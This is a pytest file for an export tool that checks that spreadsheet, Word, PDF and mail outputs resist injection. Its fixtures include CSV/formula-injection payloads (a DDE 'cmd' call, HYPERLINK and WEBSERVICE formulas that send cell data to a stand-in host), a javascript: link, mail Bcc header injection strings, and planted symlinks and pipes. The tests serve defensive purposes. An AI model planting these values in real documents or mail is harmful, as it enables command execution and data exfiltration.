"""What is planted in the folder that an export goes to, and what goes out in the files."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from models import document, template
from models.errors import ExportError
from models.exports import delivery, files, mail
from models.exports import package as exports
from models.plan import Plan
from tests.attacks.defence import bounded, is_sentence
from tests.plans import MILLION, group, register, small_plan, task, tasks
from tests.torture.containers import check_harmless

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://a.vn?x="&A1,"x")', "\u0009=1", " =1", "\n=1",
    '=WEBSERVICE("http://a.vn")', "http://a.vn/x", "mailto:a@b.vn", "file://server/share/x", "\\\\server\\share",
    "javascript:alert(1)", "<a href='http://a.vn'>x</a>", "{=1}", "_x003D_1", "'=1", "%00=1", "&=1",
)  # fmt: skip


def plan_of(text: str) -> Plan:
    """A plan that says ``text`` in every field."""
    said = document.load(document.parse(document.to_bytes(_plan("@@"))))
    raw = document.to_bytes(said).decode().replace("@@", _json(text))
    return document.from_bytes(raw.encode())


def _json(text: str) -> str:
    import json

    return json.dumps(text.replace("\t", " "), ensure_ascii=False)[1:-1]


def _plan(text: str) -> Plan:
    row = task(text, 5 * MILLION, objective=text, scope=text, lead=text, time=text, result=text, note=text)
    plan = small_plan(
        tasks(group(text, row), title=text, numbering=["I", "1"]),
        register([text, text], title=text, columns=[text, text], section="review.apps"),
        unit_parent=text, unit_name=text, unit_code=text, place=text, addressee=text, number=text, symbol=text, subject=text,
        capacity=text, signer_position=text, signer_name=text, recipients=[text],
    )  # fmt: skip
    plan.legal_bases[0].text = plan.legal_bases[0].subject = plan.legal_bases[0].issuer = text
    for section in plan.sections:
        for one in (section, *section.sections):
            one.heading = one.text = text
    return plan


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_no_formula_link_or_macro_goes_out(text: str) -> None:
    """A text is a text in the workbook, the Word file, the PDF and the mail, whatever it begins with."""
    import io

    import openpyxl

    plan = plan_of(text)
    letter = mail.Mail("a@b.vn")
    made = exports.build(plan, template.get(plan.template), draft=True, word=True, mail=letter)
    assert made.word is not None and made.mail is not None
    check_harmless(made.xlsx.data, made.word.data, made.pdf.data)
    book = openpyxl.load_workbook(io.BytesIO(made.xlsx.data))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and text.strip() and text.strip() in cell.value:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
    head = made.mail.data.partition(b"\n\n")[0]
    assert b"\nBcc:" not in head and b"<script" not in made.mail.data


@pytest.mark.parametrize("text", ["a\nBcc: x@y.vn", "a\r\n\r\nxin chào", "=?utf-8?b?DQpCY2M6?="])
def test_no_line_of_a_mail_is_made_by_a_text(text: str) -> None:
    plan = small_plan(
        subject=document.from_bytes(document.to_bytes(small_plan())).subject + " " + text.replace("\r", "")
    )
    made = exports.build(plan, template.get(plan.template), draft=True, mail=mail.Mail("a@b.vn"))
    assert made.mail is not None
    head = made.mail.data.replace(b"\r\n", b"\n").partition(b"\n\n")[0]
    assert not any(line.lower().startswith(b"bcc") for line in head.split(b"\n"))


# ---- links


def made_plan() -> exports.Exported:
    plan = small_plan()
    return exports.build(plan, template.get(plan.template), created="2021-10-10T08:00:00+07:00")


@pytest.mark.parametrize("dangling", [False, True])
def test_nothing_is_written_through_a_link(tmp_path: Path, dangling: bool) -> None:
    """A link under the name of a file leads elsewhere: it is neither followed nor replaced, and nothing is written."""
    folder, secret = tmp_path / "ra", tmp_path / "riêng.txt"
    folder.mkdir()
    if not dangling:
        secret.write_text("riêng")
    made = made_plan()
    (folder / made.xlsx.name).symlink_to(secret)
    with pytest.raises(ExportError, match="là liên kết") as raised:
        delivery.deliver(made, folder)
    assert is_sentence(str(raised.value))
    assert [path.name for path in folder.iterdir()] == [made.xlsx.name]
    assert secret.exists() != dangling and (dangling or secret.read_text() == "riêng")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes here")
def test_a_pipe_does_not_hold_the_program_up(tmp_path: Path) -> None:
    made = made_plan()
    for file in made.files.values():
        folder = tmp_path / file.name
        folder.mkdir()
        os.mkfifo(folder / file.name)
        with bounded(), pytest.raises(ExportError, match="liên kết hoặc thiết bị"):
            delivery.deliver(made, folder)


def test_a_link_planted_under_the_temporary_name_is_not_followed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Should somebody guess it: a new file is made, or none."""
    monkeypatch.setattr("secrets.token_hex", lambda _count: "00000000")
    target, elsewhere = tmp_path / "a.pdf", tmp_path / "riêng.txt"
    elsewhere.write_text("riêng")
    (tmp_path / ".a.pdf.00000000.tmp").symlink_to(elsewhere)
    with pytest.raises(ExportError):
        files.write_all({target: b"x"})
    assert elsewhere.read_text() == "riêng" and not target.exists()


def test_a_folder_that_is_a_link_is_the_users_own_choice(tmp_path: Path) -> None:
    (tmp_path / "thật").mkdir()
    (tmp_path / "ra").symlink_to(tmp_path / "thật")
    delivery.deliver(made_plan(), tmp_path / "ra").settle()
    assert len(list((tmp_path / "thật").iterdir())) == 3
